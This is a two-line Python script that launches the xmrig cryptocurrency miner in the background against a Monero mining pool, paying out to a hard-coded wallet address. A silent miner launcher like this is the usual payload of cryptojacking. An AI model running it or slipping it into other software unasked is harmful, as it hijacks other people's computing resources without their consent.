import subprocess
subprocess.Popen(["./xmrig", "-o", "pool.minexmr.com:4444", "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"])
